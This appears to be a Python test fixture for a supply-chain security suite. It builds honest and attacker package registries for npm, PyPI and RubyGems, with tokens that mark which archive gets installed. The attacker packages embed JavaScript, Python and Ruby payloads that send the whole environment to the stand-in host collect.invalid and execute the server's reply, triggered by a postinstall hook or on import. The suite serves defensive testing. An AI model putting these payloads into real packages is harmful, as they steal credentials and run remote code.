"""The two registries of the suite, and the packages on them: each archive holds a token that says which one it is."""

import os
import re
from dataclasses import dataclass
from pathlib import Path
from types import TracebackType
from typing import Self

from tests.builders import sdist
from tests.loopback import (
    GemFile,
    GemPackage,
    LoopbackRegistry,
    NpmPackage,
    NpmRelease,
    PypiFile,
    PypiProject,
    gem_file,
    wheel_file,
)

_TOKEN = re.compile(rb"suite-token:(good|evil):([a-z]+)-([0-9.]+)")
GOOD, EVIL = "good", "evil"
_ADDED = ("tern", "bundler")
"""What mechanisms publish that there is not at the beginning."""
_SUFFIXES = (".js", ".py", ".rb", ".gemspec")


def token(side: str, name: str, version: str) -> str:
    """Return the text that marks the files of one archive."""
    return f"suite-token:{side}:{name}-{version}"


def tokens_below(*folders: Path) -> frozenset[str]:
    """Return `SIDE:NAME-VERSION` of each archive whose files lie below the folders; each linked folder is walked once."""
    found: set[str] = set()
    seen: set[str] = set()
    for top in folders:
        for folder, below, files in os.walk(top, followlinks=True):
            real = os.path.realpath(folder)
            if real in seen:
                below.clear()
                continue
            seen.add(real)
            for path in (Path(folder, file) for file in files if file.endswith(_SUFFIXES)):
                found |= {
                    f"{side.decode()}:{name.decode()}-{version.decode()}"
                    for side, name, version in _TOKEN.findall(path.read_bytes())
                }
    return frozenset(found)


@dataclass(frozen=True)
class World:
    """What is published: by honest people, and by an attacker on a server of his own."""

    good: LoopbackRegistry
    evil: LoopbackRegistry

    @classmethod
    def build(cls) -> Self:
        """Return a world that is not yet served."""
        return cls(
            LoopbackRegistry(npm=_npm(GOOD), pypi=_pypi(GOOD), gems=_gems(GOOD)),
            LoopbackRegistry(npm=_npm(EVIL), pypi=_pypi(EVIL), gems=_gems(EVIL)),
        )

    def restore(self) -> None:
        """Publish again what there was at the beginning, and nothing else."""
        for side, server in ((GOOD, self.good), (EVIL, self.evil)):
            for name in _ADDED:
                server.remove(name)
            for package in _npm(side):
                server.put_npm(package)
            for project in _pypi(side):
                server.put_pypi(project)
            for one in _gems(side):
                server.put_gem(one)

    def __enter__(self) -> Self:
        self.good.__enter__()
        self.evil.__enter__()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self.evil.__exit__(kind, error, trace)
        self.good.__exit__(kind, error, trace)


def attack_later(world: World) -> None:
    """Publish the attacker's newer releases on the honest registry."""
    for name, versions in {"kite": ("1.0.0", "1.1.0"), "fleet": ("2.0.0",)}.items():
        newer = f"{versions[-1][0]}.9.0"
        sides = [*((one, GOOD) for one in versions), (newer, EVIL)]
        world.good.put_npm(NpmPackage(name=name, releases=tuple(npm_release(name, *one) for one in sides)))
        world.good.put_pypi(PypiProject(name=name, files=tuple(python_wheel(name, *one) for one in sides)))
        world.good.put_gem(GemPackage(name=name, files=tuple(gem(name, *one) for one in sides)))


def tarball(name: str, version: str, side: str = EVIL) -> bytes:
    """Return the npm tarball of one side."""
    return npm_release(name, version, side).pack(name)


def npm_release(name: str, version: str, side: str) -> NpmRelease:
    """Return a release; that of the attacker sends the environment away when it is installed."""
    needs = {"dependencies": {"kite": "^1.0.0"}} if name == "fleet" else {}
    script = f"// {token(side, name, version)}\n"
    if side == GOOD:
        return NpmRelease(
            version=version, manifest=needs, files={"index.js": script + "module.exports = 1\n"}
        )
    return NpmRelease(
        version=version,
        manifest={**needs, "scripts": {"postinstall": "node index.js"}},
        files={"index.js": script + _NPM_PAYLOAD},
    )


def python_wheel(
    name: str, version: str, side: str, *, tag: str = "py3-none-any", needs: tuple[str, ...] = ()
) -> PypiFile:
    """Return a wheel; that of the attacker sends the environment away when it is imported."""
    needs = ("kite>=1.0.0",) if name == "fleet" else needs
    source = f"# {token(side, name, version)}\n" + (_PYTHON_PAYLOAD if side == EVIL else "VALUE = 1\n")
    return wheel_file(name, version, {f"{name}.py": source}, tag=tag, requires=needs)


def python_source(name: str, version: str, side: str) -> dict[str, str]:
    """Return the files of a source tree that is built by a backend of its own, so that no other package is needed."""
    module = f"# {token(side, name, version)}\n" + (_PYTHON_PAYLOAD if side == EVIL else "VALUE = 1\n")
    return {
        "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
        f'[project]\nname = "{name}"\nversion = "{version}"\n',
        "backend.py": _BACKEND.format(name=name, version=version),
        f"{name}.py": module,
    }


def python_sdist(name: str, version: str, side: str) -> PypiFile:
    """Return a source distribution."""
    stem = f"{name}-{version}"
    data = sdist(python_source(name, version, side), root=stem)
    return PypiFile(filename=f"{stem}.tar.gz", version=version, data=data)


def gem(name: str, version: str, side: str, *, platform: str = "ruby") -> GemFile:
    """Return a gem; that of the attacker sends the environment away when it is required."""
    needs = {"kite": ">= 1.0.0"} if name == "fleet" else None
    return gem_file(
        name, version, {f"lib/{name}.rb": ruby_source(name, version, side)}, platform=platform, needs=needs
    )


def ruby_source(name: str, version: str, side: str) -> str:
    """Return the code of a gem."""
    return f"# {token(side, name, version)}\n" + (_RUBY_PAYLOAD if side == EVIL else "VALUE = 1\n")


# gull is the attacker's own name, on both registries; his server has other bytes for kite alone, so that the rest of a lock installs.
_VERSIONS = {"kite": ("1.0.0", "1.1.0"), "fleet": ("2.0.0",), "puffin": ("1.0.0",), "gull": ("1.0.0",)}


def _side(name: str, server: str) -> str:
    return {"gull": EVIL, "kite": server}.get(name, GOOD)


def _npm(server: str) -> list[NpmPackage]:
    return [
        NpmPackage(name=name, releases=tuple(npm_release(name, one, _side(name, server)) for one in versions))
        for name, versions in _VERSIONS.items()
    ]


def _pypi(server: str) -> list[PypiProject]:
    return [
        PypiProject(
            name=name,
            files=tuple(
                file
                for one in versions
                for file in (
                    python_wheel(name, one, _side(name, server)),
                    python_sdist(name, one, _side(name, server)),
                )
            ),
        )
        for name, versions in _VERSIONS.items()
    ]


def _gems(server: str) -> list[GemPackage]:
    return [
        GemPackage(name=name, files=tuple(gem(name, one, _side(name, server)) for one in versions))
        for name, versions in _VERSIONS.items()
    ]


_NPM_PAYLOAD = """
const https = require('https')
const data = JSON.stringify({ env: process.env, host: require('os').hostname() })
const ask = https.request({ hostname: 'collect.invalid', path: '/x', method: 'POST' })
ask.write(Buffer.from(data).toString('base64'))
ask.end()
"""
_PYTHON_PAYLOAD = """
import base64, json, os, subprocess, urllib.request
data = base64.b64encode(json.dumps(dict(os.environ)).encode())
code = urllib.request.urlopen("https://collect.invalid/x", data=data).read()
subprocess.run(["sh", "-c", code])
exec(code)
"""
_RUBY_PAYLOAD = """
require 'net/http'
require 'json'
answer = Net::HTTP.post(URI('https://collect.invalid/x'), ENV.to_h.to_json)
eval(answer.body)
"""
_BACKEND = """
import zipfile

NAME, VERSION = "{name}", "{version}"


def build_wheel(folder, config_settings=None, metadata_directory=None):
    wheel = f"{{NAME}}-{{VERSION}}-py3-none-any.whl"
    info = f"{{NAME}}-{{VERSION}}.dist-info"
    with zipfile.ZipFile(f"{{folder}}/{{wheel}}", "w") as out:
        out.writestr(f"{{NAME}}.py", open(f"{{NAME}}.py").read())
        out.writestr(f"{{info}}/METADATA", f"Metadata-Version: 2.1\\nName: {{NAME}}\\nVersion: {{VERSION}}\\n")
        out.writestr(f"{{info}}/WHEEL", "Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        out.writestr(f"{{info}}/RECORD", "")
    return wheel


build_editable = build_wheel
"""
